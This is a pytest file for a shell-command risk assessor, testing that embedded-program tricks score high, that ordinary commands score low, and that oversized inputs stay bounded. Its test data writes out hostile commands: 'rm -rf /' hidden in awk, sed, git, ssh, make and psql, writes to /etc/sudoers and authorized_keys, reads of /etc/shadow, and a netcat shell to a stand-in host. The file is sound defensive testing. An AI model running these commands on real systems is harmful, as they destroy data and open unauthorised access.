"""Programs with a command or a language of their own inside, by example."""

from __future__ import annotations

import pytest
from hypothesis import given, settings
from hypothesis import strategies as st

from services.approval.risk import Command, Level, assess
from services.approval.risk.detectors.paths import HIDDEN
from services.approval.risk.shell.programs import HANDLERS
from services.approval.risk.shell.programs.text_tools import sed_effects
from services.approval.risk.shell.wrapper_table import WRAPPERS
from tests.support.patience import ends

INSIDE = [
    ("git clone ext::sh%20-c%20x a", Level.HIGH),
    ("git -c core.sshCommand='sh -c \"rm -rf /\"' fetch", Level.HIGH),
    ("git config alias.x '!rm -rf /'", Level.CRITICAL),
    ("ssh -o ProxyCommand='rm -rf /' h", Level.CRITICAL),
    ("rsync -e 'sh -c \"rm -rf /\"' a h:", Level.CRITICAL),
    ("tar xf a --to-command='rm -rf /'", Level.CRITICAL),
    ("awk 'BEGIN{system(\"rm -rf /\")}'", Level.CRITICAL),
    ("awk '{ print | \"rm -rf /\" }' f", Level.CRITICAL),
    ("awk 'BEGIN{\"rm -rf /\" | getline}'", Level.CRITICAL),
    ("awk 'BEGIN{print \"x\" > \"/etc/sudoers\"}'", Level.HIGH),
    ("awk 'BEGIN{while((getline l < \"/etc/shadow\")>0) print l}'", Level.HIGH),
    ("awk '{system($0)}' f", Level.MEDIUM),
    ("sed '1e rm -rf /' f", Level.HIGH),
    ("sed 's/x/y/e' f", Level.HIGH),
    ("sed -n 'w /etc/sudoers' f", Level.HIGH),
    ("sed 's/a/b/w /root/.ssh/authorized_keys' f", Level.HIGH),
    ("vim -c ':!rm -rf /' -c q", Level.CRITICAL),
    ("vim -es -c 'w! /etc/sudoers' -c q f", Level.HIGH),
    ("printf '!rm -rf /\\n' | ed", Level.CRITICAL),
    ("gdb -batch -ex 'shell rm -rf /'", Level.CRITICAL),
    ("gdb --args rm -rf /", Level.CRITICAL),
    ("sqlite3 x '.shell rm -rf /'", Level.CRITICAL),
    ("psql -c '\\! rm -rf /'", Level.CRITICAL),
    ("mysql -e '\\! rm -rf /'", Level.CRITICAL),
    ("mysql -e 'system rm -rf /'", Level.CRITICAL),
    ("psql -c \"COPY t FROM PROGRAM 'rm -rf /'\"", Level.HIGH),
    ("make --eval='x:;rm -rf /'", Level.CRITICAL),
    ("make --eval='$(shell rm -rf /)'", Level.CRITICAL),
    ("find . -fprintf /etc/sudoers x -exec rm -rf / \\;", Level.CRITICAL),
    ("find . -fprintf /etc/sudoers x", Level.HIGH),
    ("perl -e 'system(\"rm -rf /\")'", Level.CRITICAL),
    ("perl -lane 'system(\"rm -rf /\")' f", Level.CRITICAL),
    ("ruby -e 'system(\"rm -rf /\")'", Level.CRITICAL),
    ("ruby -rsocket -e '`rm -rf /`'", Level.CRITICAL),
    ("php -r 'system(\"rm -rf /\");'", Level.CRITICAL),
    ("lua -e 'os.execute(\"rm -rf /\")'", Level.CRITICAL),
    ("node -e 'require(\"child_process\").execSync(\"rm -rf /\")'", Level.CRITICAL),
    ("perl -pi -e 's/x/y/' /etc/hosts", Level.MEDIUM),
    ("python -m http.server", Level.MEDIUM),
    ("python3 -mhttp.server 80", Level.MEDIUM),
    ("python -m pip install git+https://x.io/a", Level.MEDIUM),
    ("python -m smtpd -n", Level.MEDIUM),
    ("echo 'DROP TABLE x' > a.sql; psql -f a.sql; rm -rf /", Level.CRITICAL),
    ("echo 'DROP TABLE users' > a.sql; psql -f a.sql", Level.HIGH),
    ("echo 'DROP TABLE users' > a.sql; psql < a.sql", Level.HIGH),
    ("echo 'rm -rf /' | at now", Level.CRITICAL),
    ("at now <<< 'rm -rf /'", Level.CRITICAL),
    ("echo '* * * * * rm -rf /' > c; crontab c", Level.CRITICAL),
    ("split --filter='rm -rf /' f", Level.CRITICAL),
    ("sort --compress-program='rm -rf /' f", Level.CRITICAL),
    ("socat - EXEC:'rm -rf /'", Level.CRITICAL),
    ("nc -e /bin/sh h 1", Level.HIGH),
    ("xargs -a f rm -rf /", Level.CRITICAL),
    ("read c <<< 'rm -rf /'; $c", Level.CRITICAL),
    ("printf -v c 'rm -rf /'; eval \"$c\"", Level.CRITICAL),
    ("busybox sh -c 'rm -rf /'", Level.CRITICAL),
    ("cat s | ssh h bash\nrm -rf /", Level.CRITICAL),
    ("awk '{c=\"ls\"; c | getline; d | getline}' d=\"$x\" f", Level.MEDIUM),
]  # fmt: skip


@pytest.mark.parametrize(("script", "least"), INSIDE)
def test_what_a_program_is_made_to_do_is_seen(script: str, least: Level) -> None:
    found = assess(Command(script=script))
    assert found.level >= least, found.factors
    assert found.level is not Level.UNKNOWN


QUIET = [
    "docker run --rm -v $PWD:/w image make test",
    "kubectl exec pod -- ls",
    "ssh host uptime",
    "env FOO=1 npm test",
    "awk -F, '{print $1 > \"out.csv\"}' f",
    "sed -n '/a/,/b/p' f",
    "sed -e 's/a/b/' -e '1i\\ header' f",
    "sed -n 's/.*version = \"\\(.*\\)\".*/\\1/p' setup.cfg",
    "base64 -d a.b64 > a.bin",
    "make -C sub -j4 CC=clang",
    "make test VERBOSE=1",
    "vim +10 file.txt",
    "vim -c 'set nu' file",
    "perl -pe 's/a/b/' f",
    "perl -lane 'print $F[0]' f",
    "ruby -ne 'puts $_ if /x/' f",
    "node -e 'console.log(1)'",
    "php -v",
    "php artisan migrate:status",
    "python -m pytest -q",
    "python -m venv .venv",
    "python -m pip list",
    "python manage.py test",
    "psql -c 'SELECT 1'",
    "sqlite3 a.db '.tables'",
    "sqlite3 a.db 'SELECT * FROM t'",
    "mysql -e 'SHOW TABLES' db",
    "crontab -l",
    "tmux ls",
    "tmux attach -t x",
    "screen -ls",
    "gdb ./a.out",
    "rsync -e 'ssh -p 22' -a h:/x ./x",
    "git -c color.ui=false log",
    "git config user.name x",
    "git config --global core.editor vim",
    "hg log",
    "docker compose exec db psql -c 'select 1'",
    "split -l 100 big.csv part_",
    "sort -o out.txt in.txt",
    "aws s3 cp s3://b/data.csv .",
    "openssl x509 -in cert.pem -noout -text",
    "openssl rand -hex 16",
    "npx prettier --check .",
    "bash scripts/build.sh",
    "./gradlew test",
    "go run ./cmd/x",
    "deno run main.ts",
    "bun test",
    "cmake -E make_directory build",
    "cmake --build build",
    "fzf --preview 'cat {}'",
    "hyperfine 'ls' 'ls -la'",
    "bash -n script.sh",
    "ssh-agent bash -c 'ssh-add -l'",
    "ffmpeg -i a.mp4 -vf scale=1:1 b.mp4",
    "curl -sS -o /dev/null -w '%{http_code}\\n' https://x.io",
    "git -c user.name=x -c user.email=y commit -m z",
    "git -c core.pager=cat log -1",
    "git config alias.st status",
    "git config --global core.excludesfile ~/.gitignore",
    "git bisect run pytest -q tests/test_a.py",
    "git submodule foreach git pull",
    "docker exec -it web bash",
    "docker exec web ls -la /app",
    "docker run --rm -it -v \"$PWD\":/src -w /src node:20 npm test",
    "docker run -d -p 5432:5432 -e POSTGRES_PASSWORD=x postgres:16",
    "docker compose run --rm app python manage.py test",
    "kubectl run tmp --rm -it --image=busybox -- sh",
    "ssh -N -L 5432:localhost:5432 host",
    "ssh -t host htop",
    "rsync -avz --exclude .git ./ host:app/",
    "rsync -e ssh -a src/ dst/",
    "tmux new -s work",
    "screen -S x",
    "watch kubectl get pods",
    "time ./run.sh",
    "timeout 10s ping -c1 x.io",
    "nice -n 19 ionice -c3 make -j8",
    "env -i PATH=/usr/bin HOME=/root ls",
    "xargs -a list.txt -n1 -P4 gzip -k",
    "find . -name '*.tmp' -mtime +7 -print",
    "fd -e py -x wc -l",
    "sed -i.bak -e 's#http://#https://#g' conf.yml",
    "sed -E 's/([0-9]+)-([a-z]+)/\\2\\1/' f",
    "perl -i -pe 's/\\r\\n/\\n/' *.txt",
    "perl -ne 'print if /x/../y/' f",
    "perl -MJSON -e 'print encode_json({a=>1})'",
    "python3 - <<'E'\nimport json\nprint(json.dumps({}))\nE",
    "python -m pip install -r requirements.txt",
    "python -m json.tool < a.json",
    "python -m timeit -s 'x=1' 'x+1'",
    "python -m cProfile -s cumtime app.py",
    "python3 -m http.server --help",
    "node -p 'process.version'",
    "node --require ts-node/register app.ts",
    "node --env-file=.env.example app.js",
    "deno run --allow-net server.ts",
    "php -l index.php",
    "php -S localhost:8000 -t public --help",
    "ruby -c a.rb",
    "ruby -rjson -e 'puts JSON.pretty_generate({})'",
    "lua -e 'print(1)'",
    "bash -x script.sh",
    "sh ./configure --prefix=/tmp/x",
    "psql \"$URL\" -At -c 'select 1'",
    "psql -l",
    "redis-cli ping",
    "mongosh --eval 'db.stats()'",
    "tar -I zstd -cf a.tar.zst dir",
    "tar --use-compress-program=pigz -cf a.tgz dir",
    "zip -r a.zip src -x '*.pyc'",
    "openssl dgst -sha256 f",
    "ln -sfn releases/v2 current",
    "vim +42 src/main.c",
    "vim -d a b",
    "nvim --headless +PlugInstall +qa",
    "emacs -nw file",
    "ed -s file <<< $'1,$p\\nq'",
    "make -f build/Makefile clean all",
    "make -n install",
    "ninja -C build test",
    "gradle test --tests Foo",
    "mvn -q -DskipTests package",
    "cargo test -- --nocapture",
    "go test ./... -run TestX",
    "go run . --port 8080",
    "npx create-react-app x",
    "npx -y eslint src",
    "pnpm exec tsc --noEmit",
    "yarn dlx prettier -c .",
    "uvx ruff check",
    "pipx run cowsay hi",
    "poetry run pytest",
    "bundle exec rake db:version",
    "strace -c ls",
    "perf stat -e cycles ./bench",
    "valgrind --leak-check=full ./a.out",
    "hyperfine --warmup 3 './a' './b'",
    "parallel -j4 gzip ::: *.log",
    "entr -r make < files.txt",
    "flock -n /tmp/x.lock ./job.sh",
    "systemd-run --user --scope make",
    "caffeinate -i make",
    "direnv exec . make",
    "dotenv -- npm start",
    "op run -- npm start",
    "xvfb-run -a pytest",
    "fakeroot dpkg-deb --build pkg",
    "script -c 'make' log.txt",
    "trap 'echo bye' EXIT",
    "alias ll='ls -la'",
    "export PATH=\"$HOME/.local/bin:$PATH\"",
    "printenv PATH",
    "ping -c 3 $HOST",
    "at -l",
    "busybox wget --help",
    "git archive --format=zip -o a.zip HEAD",
    "aws s3 sync s3://b/data ./data",
    "vagrant ssh -c 'uptime'",
]  # fmt: skip


@pytest.mark.parametrize("script", QUIET)
def test_everyday_uses_of_these_programs_are_low(script: str) -> None:
    found = assess(Command(script=script))
    assert found.level is Level.LOW, found.factors


@pytest.mark.parametrize(
    ("script", "effects"),
    [
        ("s/a/b/g; p; /x/d", [("text", "b")]),
        ("s|a|b|e", [("text", "b"), ("execute", "")]),
        ("1,3e date", [("execute", "date")]),
        ("/a\\/b/w out.txt", [("write", "out.txt")]),
        ("s/a/b/w log", [("text", "b"), ("write", "log")]),
        ("y/ew/we/", []),
        ("a\\ew x", [("text", "ew x")]),
        ("1i\\\nrm x\\\ny\nd", [("text", "rm x\ny")]),
        ("s/a/x\\/&\\n1/", [("text", f"x/{HIDDEN}\n1")]),
        ("r /etc/passwd", [("read", "/etc/passwd")]),
        ("\\,e x,p", []),
        ("s/w x/e y/", [("text", "e y")]),
        ("# e x", []),
        ("b e", []),
    ],
)
def test_sed_scripts_are_read_as_sed_reads_them(script: str, effects: list[tuple[str, str]]) -> None:
    assert list(sed_effects(script)) == effects


@given(st.text(alphabet="sewrRWyabt/|\\{};\n 13$,!#gpI", max_size=80))
def test_any_sed_script_is_read_to_its_end(script: str) -> None:
    assert all(kind in ("execute", "write", "read", "text") for kind, _ in sed_effects(script))


PROGRAMS = sorted(
    {
        *HANDLERS,
        *WRAPPERS,
        *"tar zip 7z gzip gunzip cp mv ln install dd tee tr xxd base64 openssl curl wget aws split cpio".split(),
    }
)
PIECES = (
    "-c -e -o -x -X -f -C -I{} -s -i -S -d -la -so --exec --args --eval --file= --checkpoint-action=exec=a "
    "-- - + ::: {} ; run exec shell "
    "send-keys config foreach a b=1 /etc/shadow @x s/a/b/e {system(a)} $x $(b) <(c) h:/p s3://b/x"
).split()


@settings(deadline=None, max_examples=400)
@given(
    st.sampled_from(PROGRAMS),
    st.lists(st.sampled_from([*PIECES, ""]), max_size=6),
    st.sampled_from(["", "echo a | ", "cat f | "]),
)
def test_any_arguments_of_any_program_are_answered(program: str, arguments: list[str], before: str) -> None:
    quoted = " ".join(f"'{each}'" if "{" in each or ";" in each or not each else each for each in arguments)
    assert 0 <= assess(Command(script=f"{before}{program} {quoted}")).score <= 100


def test_an_awk_program_of_many_commands_takes_bounded_work() -> None:
    assert assess(Command(script="awk '" + "system(" * 9000 + "'")).level is not Level.LOW


@pytest.mark.parametrize(
    "argv",
    [
        ["find", *["-exec", "a"] * 60_000],
        ["mysql", *["-e", "a", "b"] * 60_000],
        ["nice", *["--x", "nice", "nice"] * 4_000],
        ["find", "a" * 60_000, "-exec", "x", "{}" * 30_000],
        ["parallel", "{}" * 30_000, ":::", "a" * 60_000],
        ["cat", "a/" * 60_000],
    ],
    ids=lambda argv: argv[0],
)
def test_hostile_arguments_take_bounded_work(argv: list[str]) -> None:
    with ends():
        assess(Command(argv=tuple(argv)))


@pytest.mark.parametrize(
    "script",
    [
        "curl" + " http://h.io/" * 13_000,
        "mv a b;" + ("mv" + " a" * 4000 + ";") * 3,
        "for a in 1; do " + "x+=" + "a" * 9000 + "; x+=" + "a" * 9000 + "; eval $x; done",
    ],
)
def test_more_than_is_looked_at_is_unknown(script: str) -> None:
    assert assess(Command(script=script)).level >= Level.UNKNOWN


@pytest.mark.parametrize("program", ["cpio -o", "ed", "ex -s", "sftp host", "crontab -", "zip a.zip -@"])
def test_a_list_longer_than_is_analysed_is_never_called_safe(program: str) -> None:
    names = "\n".join("a" for _ in range(1200))
    assert assess(Command(script=f"{program} <<'END'\n{names}\nEND")).level >= Level.UNKNOWN
